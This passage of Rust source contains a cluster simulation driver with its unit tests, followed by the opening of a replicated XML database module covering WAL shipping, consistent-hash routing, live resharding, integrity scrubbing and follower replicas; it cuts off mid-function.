                Submitted::Done(done) => {
                    if done.outcome == ClusterOutcome::AckedUpdate {
                        report.updates[ix].acked = true;
                        report.acked_updates += 1;
                        ack_latencies.push(0);
                    } else {
                        settle(*done, &mut report, &mut in_flight, &mut ack_latencies);
                    }
                }
            }
            un += 1;
        }
        while rn < cfg.read_rps * now / 1000 {
            let uri = format!("d{}.xml", mix64(cfg.seed ^ 0xbead ^ rn) % docs as u64);
            report.issued_reads += 1;
            let mut shard = resolve(&c, &mut routes, &uri, now);
            let mut submitted = c.serve_at(shard, &format!("/doc?uri={uri}"), now);
            if matches!(&submitted, Submitted::Done(d) if d.outcome == ClusterOutcome::Misrouted) {
                report.fence_refusals += 1;
                report.reroutes += 1;
                if let Submitted::Done(done) = submitted {
                    settle(*done, &mut report, &mut in_flight, &mut ack_latencies);
                }
                shard = c.owner(&uri);
                routes.insert(uri.clone(), (now, shard));
                submitted = c.serve_at(shard, &format!("/doc?uri={uri}"), now);
            }
            match submitted {
                Submitted::Done(done) => {
                    settle(*done, &mut report, &mut in_flight, &mut ack_latencies)
                }
                Submitted::Pending(_) => {}
            }
            rn += 1;
        }
        for done in c.advance(now) {
            settle(done, &mut report, &mut in_flight, &mut ack_latencies);
        }
    }
    let (_, rest) = c.quiesce(cfg.duration_ms + 1);
    for done in rest {
        settle(done, &mut report, &mut in_flight, &mut ack_latencies);
    }
    ack_latencies.sort_unstable();
    report.ack_latency_p50 = nearest_rank(&ack_latencies, 50);
    report.ack_latency_p99 = nearest_rank(&ack_latencies, 99);
    report.stats = c.stats();
    report.integrity = c.integrity_stats();
    report.final_epoch = c.epoch();
    report.reshard = c.reshard_stats();
    (report, c)
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;

    #[test]
    fn patterns_compute_rates() {
        let steady = ArrivalPattern::Steady { rps: 10 };
        assert_eq!(steady.rate_at(0, 5000), 10);
        let burst = ArrivalPattern::Burst {
            base_rps: 5,
            burst_rps: 50,
            from_ms: 1000,
            to_ms: 3000,
        };
        assert_eq!(burst.rate_at(0, 5000), 5);
        assert_eq!(burst.rate_at(1000, 5000), 50);
        assert_eq!(burst.rate_at(2999, 5000), 50);
        assert_eq!(burst.rate_at(3000, 5000), 5);
        let ramp = ArrivalPattern::Ramp {
            from_rps: 0,
            to_rps: 100,
        };
        assert_eq!(ramp.rate_at(0, 10_000), 0);
        assert_eq!(ramp.rate_at(5_000, 10_000), 50);
        assert_eq!(ramp.rate_at(10_000, 10_000), 100);
        let down = ArrivalPattern::Ramp {
            from_rps: 100,
            to_rps: 0,
        };
        assert_eq!(down.rate_at(5_000, 10_000), 50);
    }

    #[test]
    fn steady_under_capacity_is_all_goodput() {
        let report = run_sim(&SimConfig::steady(7, 5, 4_000)).unwrap();
        assert_eq!(report.issued(), 20);
        assert_eq!(report.shed(), 0, "{report:?}");
        assert_eq!(report.metrics.shed, 0);
        assert_eq!(report.metrics.degraded, 0);
        assert_eq!(report.goodput() + report.errors(), 20);
        assert!(report.metrics.admitted >= 20);
    }

    #[test]
    fn identical_seeds_reproduce_identical_reports() {
        let mut cfg = SimConfig::steady(42, 30, 3_000);
        cfg.net_fault = Some(
            FaultPlan::seeded(9)
                .with_timeout_permille(50)
                .with_error_permille(50)
                .with_jitter_ms(20),
        );
        cfg.disk_fault = Some(StorageFaultPlan::seeded(11));
        let a = run_sim(&cfg).unwrap();
        let b = run_sim(&cfg).unwrap();
        assert_eq!(a, b);
        // a different seed explores a different trajectory
        cfg.seed = 43;
        let c = run_sim(&cfg).unwrap();
        assert_ne!(a, c);
    }

    #[test]
    fn overload_burst_sheds_under_governance() {
        let mut cfg = SimConfig::steady(3, 10, 6_000);
        cfg.clients[0].pattern = ArrivalPattern::Burst {
            base_rps: 10,
            burst_rps: 200,
            from_ms: 1_000,
            to_ms: 3_000,
        };
        let report = run_sim(&cfg).unwrap();
        assert!(report.shed() > 0, "the burst must overwhelm the queue");
        assert!(
            report.goodput() > 0,
            "shedding keeps the server making progress"
        );
        assert_eq!(report.metrics.shed, report.shed());
    }

    impl SimReport {
        fn errors(&self) -> u64 {
            self.per_class
                .iter()
                .map(|c| c.errors + c.deadline_exceeded)
                .sum()
        }
    }

    #[test]
    fn cluster_sim_is_deterministic_per_seed() {
        let cfg = ClusterSimConfig::steady(11, 1_500);
        let (a, _) = run_cluster_sim(&cfg);
        let (b, _) = run_cluster_sim(&cfg);
        assert_eq!(a, b, "identical seeds must give bit-identical reports");
        assert!(a.issued_updates > 0 && a.acked_updates > 0);
        assert_eq!(a.misrouted, 0, "submit always routes to the owner");
        let (c, _) = run_cluster_sim(&ClusterSimConfig::steady(12, 1_500));
        assert_ne!(a, c, "different seeds should differ somewhere");
    }

    #[test]
    fn cluster_sim_crash_mid_run_loses_no_acked_update() {
        let mut cfg = ClusterSimConfig::steady(21, 2_500);
        cfg.cluster.followers = 2;
        cfg.cluster.ack_replicas = 1;
        cfg.leader_crashes = vec![(1_200, 0), (1_400, 1)];
        let (report, cluster) = run_cluster_sim(&cfg);
        assert_eq!(report.stats.failovers, 2, "both shards must fail over");
        assert!(report.acked_updates > 0);
        assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "every acked update must survive the failovers"
        );
    }

    #[test]
    fn cluster_sim_partition_forces_timeouts_or_degraded_service() {
        let mut cfg = ClusterSimConfig::steady(31, 2_000);
        cfg.cluster.followers = 1;
        cfg.cluster.ack_replicas = 1;
        cfg.cluster.ack_timeout_ms = 300;
        // the only follower is dark for most of the run: updates cannot
        // satisfy the ack rule while the partition holds
        cfg.partitions = vec![(0, 1, 0, 1_500), (1, 1, 0, 1_500)];
        let (report, cluster) = run_cluster_sim(&cfg);
        assert!(
            report.ack_timeouts > 0,
            "partitioned followers must starve acks: {report:?}"
        );
        assert_eq!(
            report.missing_acked_updates(&cluster),
            Vec::<String>::new(),
            "acked updates still all present"
        );
    }
}
