//! # Replicated XmlDb cluster
//!
//! A leader/follower tier over N [`XmlDb`] shards. Documents are routed to
//! shards by a consistent-hash ring; each shard is one durable leader
//! ([`AppServer`]) plus K followers that replicate by **WAL shipping**: the
//! leader sends its committed WAL frames — the exact on-disk bytes, CRC
//! and all — over a fault-injected [`VirtualNetwork`], and each follower
//! replays them through the same [`apply_wal_record`] redo path recovery
//! uses, appending the raw frames to its *own* WAL so its disk image stays
//! a byte-prefix of the leader's log (modulo its own checkpoints).
//!
//! The protocol leans on three properties the storage tier already has:
//!
//! * **Torn-tail tolerance** — a truncated shipment decodes to the longest
//!   intact frame prefix ([`Wal::scan_bytes`]), so a cut-off message just
//!   acks less and the rest is resent.
//! * **Idempotent replay** — frames at or below the follower's applied
//!   sequence are skipped, so a resend after a lost ack
//!   ([`xqib_browser::net::Fault::ReplyLost`]) is harmless.
//! * **Checkpoint = snapshot** — when the leader has checkpointed past a
//!   straggler's position (log gap), it ships a [`Checkpoint`] as a full
//!   snapshot instead.
//!
//! An update is **acked** (HTTP 200 surfaced to the client) only once the
//! leader has fsynced it *and* at least `ack_replicas` followers have
//! durably acknowledged its sequence. On leader crash, the cluster waits
//! `failover_detect_ms`, then probes followers over the (possibly
//! partitioned) network until it hears from `K - ack_replicas + 1` of them
//! — a set that must intersect every ack quorum — and promotes the one
//! with the greatest `(term, acked)` pair (Raft's election restriction)
//! via the ordinary [`AppServer::recover`] path. The
//! new term starts by asserting the new leader's state: every surviving
//! follower gets a term-stamped snapshot, which fences stale leaders and
//! erases any un-acked divergent suffix a partitioned follower may hold
//! (a deliberately simplified Raft-style log reset). Under partition the
//! blackout simply extends until a quorum is reachable — consistency over
//! availability, by construction.
//!
//! Everything runs on virtual time and seeded draws: identical seeds give
//! bit-identical replication schedules, failovers and reports.
//!
//! # Online membership & live resharding
//!
//! Topology is no longer fixed at construction: the ring is versioned by a
//! [`TopologyEpoch`], and [`Cluster::add_shard`] /
//! [`Cluster::decommission_shard`] / [`Cluster::rebalance`] reshape it
//! *live*. A ring change never moves routing by itself — every document
//! stays **homed** on the shard currently serving it until its own
//! two-phase migration completes: (1) a checkpoint-style snapshot copy is
//! installed at the destination leader (journaled like any load, so the
//! destination's followers pick it up over the ordinary WAL-shipping
//! resync path) while the source keeps serving; then (2) after the copy
//! window, the destination is integrity-checked (rot forces a clean
//! re-copy, never a rotten cutover), the WAL tail of updates the source
//! accepted during the copy is forwarded, and the cutover fence is
//! stamped atomically: the source refuses the document with 421 + the new
//! epoch, and routing flips to the destination in the same tick.
//! Decommission drains every homed document this way, then retires the
//! shard's seats. Migrations compose with crashes, partitions and decay:
//! a step that needs a leader simply waits for failover to supply one.

use std::cell::RefCell;
use std::collections::{BTreeMap, VecDeque};
use std::rc::Rc;

use xqib_browser::recovery::{CircuitBreaker, RecoveryStats, RetryPolicy};
use xqib_browser::{FaultPlan, NetOutcome, Request, Response, VirtualNetwork};
use xqib_dom::store::shared_store;
use xqib_dom::SharedStore;
use xqib_storage::{
    content_digest, Checkpoint, IntegrityError, StorageFaultPlan, VirtualDisk, Wal, WalRecord,
    WAL_FILE,
};
use xqib_xquery::wire;

use crate::governor::Class;
use crate::metrics::ServerMetrics;
use crate::render;
use crate::server::{param, split_url, AppServer, ServerResponse};
use crate::xmldb::{apply_wal_record, DurabilityConfig, XmlDb};

fn mix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

fn fnv1a(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.as_bytes() {
        h ^= u64::from(*b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// Lowercase-hex encodes replication payloads for the text-bodied
/// [`Request`] transport.
fn to_hex(bytes: &[u8]) -> String {
    let mut out = String::with_capacity(bytes.len() * 2);
    for b in bytes {
        out.push(char::from_digit(u32::from(b >> 4), 16).unwrap_or('0'));
        out.push(char::from_digit(u32::from(b & 0xf), 16).unwrap_or('0'));
    }
    out
}

/// Decodes as many whole hex pairs as are intact; a truncated or mangled
/// tail yields a byte *prefix* — exactly the torn-shipment shape the WAL
/// scanner is built to absorb.
fn from_hex(s: &str) -> Vec<u8> {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len() / 2);
    let mut i = 0;
    while i + 1 < b.len() {
        match ((b[i] as char).to_digit(16), (b[i + 1] as char).to_digit(16)) {
            (Some(hi), Some(lo)) => out.push((hi * 16 + lo) as u8),
            _ => break,
        }
        i += 2;
    }
    out
}

/// First `u64` attribute with this name in a tiny XML reply.
fn parse_attr(xml: &str, name: &str) -> Option<u64> {
    let pat = format!("{name}=\"");
    let start = xml.find(&pat)? + pat.len();
    let rest = &xml[start..];
    rest[..rest.find('"')?].parse().ok()
}

// ---------------------------------------------------------------------
// Routing
// ---------------------------------------------------------------------

/// Consistent-hash ring mapping document URIs to shards. Every member
/// contributes `VNODES` seeded points; a URI belongs to the first point at
/// or after its own hash (wrapping). Deterministic in `(members, seed)`.
/// A member's points depend only on its own id, so growing the ring moves
/// the minimum: only the keys that land on the new member's arcs.
#[derive(Debug, Clone)]
pub struct Router {
    ring: Vec<(u64, usize)>,
    members: Vec<usize>,
}

/// Virtual points per member. Load imbalance of a random-point ring
/// scales as `1/sqrt(VNODES)` — 128 points keeps the max/min shard load
/// within 3× with wide margin for any realistic member count (the
/// ring-balance property test in `tests/reshard.rs` enforces this).
const VNODES: u64 = 128;

impl Router {
    pub fn new(shards: usize, seed: u64) -> Router {
        let members: Vec<usize> = (0..shards.max(1)).collect();
        Router::with_members(&members, seed)
    }

    /// A ring over an explicit member set — live topologies are sparse
    /// (a decommissioned shard's id never comes back).
    pub fn with_members(members: &[usize], seed: u64) -> Router {
        let mut members = members.to_vec();
        members.sort_unstable();
        members.dedup();
        if members.is_empty() {
            members.push(0);
        }
        let mut ring = Vec::with_capacity(members.len() * VNODES as usize);
        for &s in &members {
            for v in 0..VNODES {
                ring.push((mix64(seed ^ ((s as u64) << 20) ^ v), s));
            }
        }
        ring.sort_unstable();
        ring.dedup_by_key(|(h, _)| *h);
        Router { ring, members }
    }

    pub fn shards(&self) -> usize {
        self.members.len()
    }

    /// The shard ids participating in this ring, sorted.
    pub fn members(&self) -> &[usize] {
        &self.members
    }

    /// The shard that owns `uri`.
    pub fn owner(&self, uri: &str) -> usize {
        if self.ring.is_empty() {
            return 0;
        }
        let h = mix64(fnv1a(uri));
        let i = match self.ring.binary_search_by(|(p, _)| p.cmp(&h)) {
            Ok(i) => i,
            Err(i) => i % self.ring.len(),
        };
        self.ring[i].1
    }
}

// ---------------------------------------------------------------------
// Topology: epoch-versioned ring + document homes
// ---------------------------------------------------------------------

/// Monotonic version of the cluster's routing state. Bumped on every ring
/// change; surfaced in 421 fencing refusals so clients re-resolve.
pub type TopologyEpoch = u64;

/// A scheduled membership / ring operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TopologyChange {
    /// Grow the ring by one fresh shard (next free id).
    AddShard,
    /// Drain every document homed on this shard, then retire its seats.
    Decommission(usize),
    /// Reseed the ring over the same members (moves a salted subset of
    /// keys — the "hot shard" relief valve).
    Rebalance(u64),
}

/// Cumulative resharding counters, mirrored into [`ServerMetrics`] via
/// [`ServerMetrics::record_resharding`].
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ReshardStats {
    /// Ring installs (add, decommission, rebalance) — each bumps the epoch.
    pub epoch_bumps: u64,
    /// Per-document migrations that entered the copy phase.
    pub migrations_started: u64,
    /// Migrations that reached cutover.
    pub migrations_completed: u64,
    /// Copy phases abandoned: destination rot forced a re-copy, or a ring
    /// change retargeted the document mid-flight.
    pub migrations_aborted: u64,
    /// Documents whose home moved to a new shard.
    pub docs_moved: u64,
    /// Committed WAL records the source accepted during a copy window and
    /// forwarded to the destination before cutover.
    pub tail_frames_forwarded: u64,
    /// Fences stamped at cutover (source starts refusing with 421 + epoch).
    pub cutover_fences: u64,
    /// Decommissioned shards fully drained and retired.
    pub drains: u64,
}

/// Shared routing state: the ring, its epoch, and the per-document *home*
/// pins that keep routing stable while migrations are in flight. Cheap to
/// clone — all holders see every install and cutover instantly.
#[derive(Clone)]
pub(crate) struct Topology {
    state: Rc<RefCell<TopologyState>>,
}

struct TopologyState {
    router: Router,
    epoch: TopologyEpoch,
    /// Documents pinned to the shard currently serving them. Routing
    /// consults homes *before* the ring, so a ring install moves no
    /// traffic until the per-document cutover flips the pin.
    homes: BTreeMap<String, usize>,
    /// Every shard that has ever legitimately held a copy of the document.
    /// Grows monotonically: the store has no removal API, so source
    /// replicas and aborted-copy destinations keep the bytes and must keep
    /// accepting replication frames for them.
    resident: BTreeMap<String, Vec<usize>>,
}

impl Topology {
    fn new(router: Router) -> Topology {
        Topology {
            state: Rc::new(RefCell::new(TopologyState {
                router,
                epoch: 0,
                homes: BTreeMap::new(),
                resident: BTreeMap::new(),
            })),
        }
    }

    fn epoch(&self) -> TopologyEpoch {
        self.state.borrow().epoch
    }

    /// The shard a request for `uri` must go to *now*: its home pin if it
    /// has one, else the ring.
    fn owner(&self, uri: &str) -> usize {
        let st = self.state.borrow();
        match st.homes.get(uri) {
            Some(&s) => s,
            None => st.router.owner(uri),
        }
    }

    /// Where the current ring says `uri` should eventually live.
    fn ring_owner(&self, uri: &str) -> usize {
        self.state.borrow().router.owner(uri)
    }

    fn members(&self) -> Vec<usize> {
        self.state.borrow().router.members().to_vec()
    }

    /// Whether `shard` may hold/replicate `uri`: it is the home, or a
    /// past/under-copy resident.
    fn replicable_at(&self, shard: usize, uri: &str) -> bool {
        let st = self.state.borrow();
        match st.homes.get(uri) {
            Some(&home) if home == shard => return true,
            None if st.router.owner(uri) == shard => return true,
            _ => {}
        }
        st.resident.get(uri).is_some_and(|r| r.contains(&shard))
    }

    /// Installs a new ring and bumps the epoch.
    fn install(&self, router: Router) -> TopologyEpoch {
        let mut st = self.state.borrow_mut();
        st.router = router;
        st.epoch += 1;
        st.epoch
    }

    /// Pins `uri` to the shard that loaded it.
    fn note_home(&self, uri: &str, shard: usize) {
        let mut st = self.state.borrow_mut();
        st.homes.insert(uri.to_string(), shard);
        let res = st.resident.entry(uri.to_string()).or_default();
        if !res.contains(&shard) {
            res.push(shard);
        }
    }

    /// Marks `to` a legitimate resident while the copy runs.
    fn begin_copy(&self, uri: &str, to: usize) {
        let mut st = self.state.borrow_mut();
        let res = st.resident.entry(uri.to_string()).or_default();
        if !res.contains(&to) {
            res.push(to);
        }
    }

    /// Atomic cutover: the home pin flips to `to` and the epoch bumps in
    /// one tick, so the source's acceptances (old epoch) and the
    /// destination's (new epoch) can never share an epoch. `from` stays
    /// resident (its replicas keep the bytes forever).
    fn cutover(&self, uri: &str, to: usize) -> TopologyEpoch {
        let mut st = self.state.borrow_mut();
        st.homes.insert(uri.to_string(), to);
        let res = st.resident.entry(uri.to_string()).or_default();
        if !res.contains(&to) {
            res.push(to);
        }
        st.epoch += 1;
        st.epoch
    }

    /// Snapshot of every document's current home, sorted by URI.
    fn homes(&self) -> Vec<(String, usize)> {
        self.state
            .borrow()
            .homes
            .iter()
            .map(|(u, &s)| (u.clone(), s))
            .collect()
    }
}

/// One in-flight two-phase document migration.
#[derive(Debug, Clone)]
struct Migration {
    uri: String,
    from: usize,
    to: usize,
    phase: MigrationPhase,
}

#[derive(Debug, Clone)]
enum MigrationPhase {
    /// Waiting for live leaders on both ends to start the copy.
    Pending,
    /// Snapshot installed at the destination; the source keeps serving
    /// until `done_at`, then the tail is forwarded and the fence stamped.
    Copying {
        done_at: u64,
        base_seq: u64,
        copy_digest: u64,
    },
}

/// Outcome of one cutover attempt.
enum CutoverStep {
    /// Fence stamped; the migration is finished.
    Done,
    /// Destination integrity failed — restart the copy phase.
    Recopy,
    /// A needed leader is missing, or the destination copy is not yet
    /// follower-durable; try again next tick.
    Wait,
    /// The source accepted updates during the copy window: the refreshed
    /// snapshot was re-installed at the destination and must replicate
    /// there before the fence is considered again.
    Forwarded {
        base_seq: u64,
        copy_digest: u64,
        tail: u64,
    },
}

// ---------------------------------------------------------------------
// Stats
// ---------------------------------------------------------------------

/// Cumulative replication counters, mirrored into [`ServerMetrics`] via
/// [`ServerMetrics::record_replication`].
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct ReplicationStats {
    /// WAL frames shipped to followers (every attempt, including resends).
    pub frames_shipped: u64,
    /// Frame sequence numbers durably acknowledged by followers.
    pub frames_acked: u64,
    /// Frames re-shipped after a lost/failed attempt.
    pub frames_retried: u64,
    /// Full snapshots shipped (log gap, or term-change reset).
    pub snapshots_shipped: u64,
    /// Failover probes sent to followers.
    pub probes: u64,
    /// Leader promotions performed.
    pub failovers: u64,
    /// Render reads served by a follower instead of the leader.
    pub follower_reads: u64,
    /// Shipments or requests refused because the document is not owned by
    /// the shard.
    pub ownership_rejections: u64,
    /// Total virtual milliseconds some shard spent leaderless.
    pub blackout_ms: u64,
    /// High-water replica lag (leader committed − follower acked frames).
    pub max_replica_lag: u64,
}

/// Cumulative end-to-end integrity counters: latent decay observed, scrub
/// verdicts, quarantines and verified repairs. Mirrored into
/// [`ServerMetrics`] via [`ServerMetrics::record_integrity`].
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct IntegrityStats {
    /// Anti-entropy scrub cycles run across the cluster.
    pub scrub_cycles: u64,
    /// Per-document digest comparisons performed by the scrubber.
    pub scrub_docs_checked: u64,
    /// Replica documents whose content digest disagreed with the digest
    /// the leader recorded at journal time.
    pub scrub_digest_mismatches: u64,
    /// Mid-prefix WAL damage the scrubber found on a live node's disk
    /// (never a legal crash shape — latent rot or a replication fault).
    pub scrub_wal_corruptions: u64,
    /// Corrupt checkpoint slots the scrubber found.
    pub scrub_ckpt_corruptions: u64,
    /// Scrub passes that found every written checkpoint slot corrupt.
    pub scrub_ckpt_lost: u64,
    /// Followers pulled from the read pool over damage or divergence.
    pub quarantines: u64,
    /// Repairs begun (node-local re-checkpoint or full snapshot resync).
    pub repairs_started: u64,
    /// Quarantined followers readmitted to the read pool after their
    /// digests matched the leader's again.
    pub repairs_verified: u64,
    /// Leaders demoted for sitting on a damaged WAL; failover follows
    /// rather than ever serving bad bytes.
    pub leader_demotions: u64,
    /// Failover winners healed from intact memory before promotion, so
    /// recovery would not truncate acked state at a rotted frame.
    pub promote_heals: u64,
    /// Follower `/doc` bodies digest-verified before being served.
    pub reads_verified: u64,
    /// Follower `/doc` bodies refused (and the seat quarantined) over a
    /// digest mismatch.
    pub reads_refused: u64,
    /// Decay periods swept across every seat disk.
    pub decay_sweeps: u64,
    /// At-rest synced sectors hit by latent bit rot.
    pub sectors_decayed: u64,
}

// ---------------------------------------------------------------------
// Configuration
// ---------------------------------------------------------------------

/// Cluster topology and replication tuning.
#[derive(Debug, Clone)]
pub struct ClusterConfig {
    pub seed: u64,
    /// Shards (consistent-hash partitions), each with its own leader.
    pub shards: usize,
    /// Followers per shard.
    pub followers: usize,
    /// Followers that must durably ack an update before the client sees
    /// 200 (clamped to the live follower count; 0 = leader-only acks).
    pub ack_replicas: usize,
    /// Leader durability (group commit, checkpoint threshold).
    pub durability: DurabilityConfig,
    /// Follower durability (checkpoint threshold for the shipped log).
    pub follower_durability: DurabilityConfig,
    /// Fault plan template for every replication link; reseeded per
    /// follower host so links fail independently.
    pub repl_fault: Option<FaultPlan>,
    /// ‰ of shipments truncated in flight by the cluster itself (exercises
    /// torn-frame acceptance end to end, on top of any network plan).
    pub ship_truncate_permille: u16,
    /// Max frames per shipment.
    pub max_batch_frames: usize,
    /// Round-trip latency of every replication link, virtual ms.
    pub link_latency_ms: u64,
    /// Backoff schedule for failed shipments.
    pub retry: RetryPolicy,
    /// Consecutive link failures before the breaker opens.
    pub breaker_failures: u32,
    /// How long an open link breaker stays open, virtual ms.
    pub breaker_open_ms: u64,
    /// Leaderless time before failover probing starts.
    pub failover_detect_ms: u64,
    /// Delay between probe rounds while gathering the failover quorum.
    pub probe_retry_ms: u64,
    /// Pending updates time out with 503 after this long un-acked.
    pub ack_timeout_ms: u64,
    /// Serve `/doc` renders from followers within `max_read_lag`.
    pub follower_reads: bool,
    /// Bounded staleness for healthy-path follower reads, in frames.
    pub max_read_lag: u64,
    /// Fault plan template for every seat's virtual disk; reseeded per seat
    /// so disks fail independently.
    pub disk_fault: Option<StorageFaultPlan>,
    /// Anti-entropy scrub interval, virtual ms (`0` disables scrubbing).
    pub scrub_interval_ms: u64,
    /// How long a quarantined follower stays out of the read pool before
    /// probation; readmission still requires its digests to match.
    pub quarantine_ms: u64,
    /// Copy-phase window of a document migration, virtual ms: how long the
    /// source keeps serving (accumulating a WAL tail) after the snapshot
    /// lands at the destination, before tail-forwarding and cutover.
    pub migration_copy_ms: u64,
}

impl Default for ClusterConfig {
    fn default() -> Self {
        ClusterConfig {
            seed: 0,
            shards: 2,
            followers: 1,
            ack_replicas: 1,
            durability: DurabilityConfig::default(),
            follower_durability: DurabilityConfig::default(),
            repl_fault: None,
            ship_truncate_permille: 0,
            max_batch_frames: 64,
            link_latency_ms: 5,
            retry: RetryPolicy::default(),
            breaker_failures: 5,
            breaker_open_ms: 100,
            failover_detect_ms: 150,
            probe_retry_ms: 25,
            ack_timeout_ms: 1500,
            follower_reads: true,
            max_read_lag: 64,
            disk_fault: None,
            scrub_interval_ms: 250,
            quarantine_ms: 400,
            migration_copy_ms: 40,
        }
    }
}

// ---------------------------------------------------------------------
// Follower
// ---------------------------------------------------------------------

/// A follower replica: its own store, disk and WAL position. Lives behind
/// the seat's network handler; the leader only ever talks to it through
/// [`VirtualNetwork`] messages.
pub struct ReplicaNode {
    shard: usize,
    term: u64,
    store: SharedStore,
    disk: VirtualDisk,
    cfg: DurabilityConfig,
    topology: Topology,
    stats: Rc<RefCell<ReplicationStats>>,
    ckpt_gen: u64,
    /// Highest frame applied to the in-memory store.
    applied: u64,
    /// Highest frame durable on this follower's own disk.
    acked: u64,
}

impl ReplicaNode {
    fn fresh(
        shard: usize,
        disk: VirtualDisk,
        topology: Topology,
        stats: Rc<RefCell<ReplicationStats>>,
        cfg: DurabilityConfig,
    ) -> ReplicaNode {
        disk.delete(WAL_FILE);
        ReplicaNode {
            shard,
            term: 0,
            store: shared_store(),
            disk,
            cfg,
            topology,
            stats,
            ckpt_gen: 0,
            applied: 0,
            acked: 0,
        }
    }

    pub fn applied(&self) -> u64 {
        self.applied
    }

    pub fn acked(&self) -> u64 {
        self.acked
    }

    pub fn serialize(&self, uri: &str) -> Option<String> {
        let store = self.store.borrow();
        let id = store.doc_by_uri(uri)?;
        Some(xqib_dom::serialize::serialize_document(store.doc(id)))
    }

    fn owns(&self, record: &WalRecord) -> bool {
        match record {
            WalRecord::Load { uri, .. } | WalRecord::Digest { uri, .. } => {
                self.topology.replicable_at(self.shard, uri)
            }
            WalRecord::Pul(bytes) => match wire::pul_doc_uris(bytes) {
                Ok(uris) => uris
                    .iter()
                    .all(|u| self.topology.replicable_at(self.shard, u)),
                Err(_) => false,
            },
        }
    }

    /// Replays a shipped byte stream: skip what's already applied, stop at
    /// the first gap, foreign document or inapplicable record, persist the
    /// accepted raw frames, and report the new durable position plus
    /// whether the batch was refused over ownership. `None` fences a
    /// stale-term sender.
    fn accept_frames(&mut self, term: u64, data: &[u8]) -> Option<(u64, bool)> {
        if term < self.term {
            return None;
        }
        self.term = term;
        let replay = Wal::scan_bytes(data);
        let mut start = 0usize;
        let mut refused = false;
        for (seq, record, end) in replay.records {
            let bytes = &data[start..end];
            start = end;
            if seq <= self.applied {
                continue; // idempotent resend after a lost ack
            }
            if seq != self.applied + 1 {
                break; // gap: the sender must fall back to a snapshot
            }
            if !self.owns(&record) {
                self.stats.borrow_mut().ownership_rejections += 1;
                refused = true;
                break;
            }
            if !apply_wal_record(&self.store, &record) {
                break;
            }
            self.disk.append(WAL_FILE, bytes);
            self.applied = seq;
        }
        if self.applied > self.acked && self.disk.sync(WAL_FILE).is_ok() {
            self.acked = self.applied;
        }
        self.maybe_checkpoint();
        Some((self.acked, refused))
    }

    /// Installs a full snapshot (log-gap resync or new-term reset),
    /// replacing local state wholesale. `None` fences stale terms, refuses
    /// foreign documents and undecodable payloads.
    fn install_snapshot(&mut self, term: u64, data: &[u8]) -> Option<u64> {
        if term < self.term {
            return None;
        }
        let ck = Checkpoint::decode(data)?;
        for (uri, _) in &ck.docs {
            if !self.topology.replicable_at(self.shard, uri) {
                self.stats.borrow_mut().ownership_rejections += 1;
                return None;
            }
        }
        let store = shared_store();
        for (uri, xml) in &ck.docs {
            let doc = xqib_dom::parse_document(xml).ok()?;
            store.borrow_mut().add_document(doc, Some(uri));
        }
        let local = Checkpoint {
            gen: self.ckpt_gen + 1,
            seq: ck.seq,
            docs: ck.docs,
        };
        if local.write(&self.disk).is_err() {
            return None;
        }
        self.ckpt_gen += 1;
        self.disk.truncate(WAL_FILE);
        self.term = term;
        self.store = store;
        self.applied = local.seq;
        self.acked = local.seq;
        Some(self.acked)
    }

    /// Followers checkpoint independently once their copy of the log grows
    /// past the threshold, truncating it just like the leader does.
    fn maybe_checkpoint(&mut self) {
        let threshold = self.cfg.checkpoint_threshold;
        if threshold == 0 || self.disk.len(WAL_FILE) <= threshold {
            return;
        }
        self.force_checkpoint();
    }

    /// Writes a fresh checkpoint from the replica's intact in-memory state
    /// and truncates its WAL. Beyond the size-triggered housekeeping this
    /// is the node-local *repair* path: a rotted WAL frame or checkpoint
    /// slot is superseded wholesale by a new snapshot of memory, with no
    /// window where acked state exists only on damaged media.
    fn force_checkpoint(&mut self) -> bool {
        let docs = {
            let store = self.store.borrow();
            store
                .uri_bindings()
                .into_iter()
                .map(|(uri, id)| (uri, xqib_dom::serialize::serialize_document(store.doc(id))))
                .collect()
        };
        let ck = Checkpoint {
            gen: self.ckpt_gen + 1,
            seq: self.applied,
            docs,
        };
        if ck.write(&self.disk).is_ok() {
            self.ckpt_gen += 1;
            self.disk.truncate(WAL_FILE);
            // the checkpoint write fsynced the slot: state is durable
            self.acked = self.applied;
            true
        } else {
            false
        }
    }

    /// Recomputed content digest of one locally-held document.
    fn digest_for(&self, uri: &str) -> Option<u64> {
        self.serialize(uri).map(|xml| content_digest(uri, &xml))
    }

    /// Typed integrity verdicts for this replica's own disk image:
    /// mid-prefix WAL damage plus any checkpoint-slot verdicts. A torn WAL
    /// tail is *not* reported — it is the expected crash shape.
    fn disk_damage(&self) -> (bool, Vec<IntegrityError>) {
        let wal_rot = Wal::scan(&self.disk, WAL_FILE).mid_prefix_damage();
        let (_, verdicts) = Checkpoint::read_latest_verified(&self.disk);
        (wal_rot, verdicts)
    }

    /// Fault-injection hook: silently replaces a document in the replica's
    /// *memory*, modelling the divergence a mis-apply or memory fault
    /// would cause. Disk and shipped digests are untouched, so only a
    /// digest cross-check can notice.
    pub fn poison_document(&mut self, uri: &str) -> bool {
        if self.store.borrow().doc_by_uri(uri).is_none() {
            return false;
        }
        let Ok(doc) = xqib_dom::parse_document("<rotted/>") else {
            return false;
        };
        self.store.borrow_mut().add_document(doc, Some(uri));
        true
    }

    fn handle(node: &Rc<RefCell<Option<ReplicaNode>>>, req: &Request) -> Response {
        let mut guard = node.borrow_mut();
        let Some(n) = guard.as_mut() else {
            return Response {
                status: 503,
                body: "<error>not a replica</error>".to_string(),
                content_type: "application/xml".to_string(),
            };
        };
        if req.query_param("probe").is_some() {
            return Response::ok(format!(
                "<state term=\"{}\" acked=\"{}\" applied=\"{}\"/>",
                n.term, n.acked, n.applied
            ));
        }
        let term = req
            .query_param("term")
            .and_then(|t| t.parse().ok())
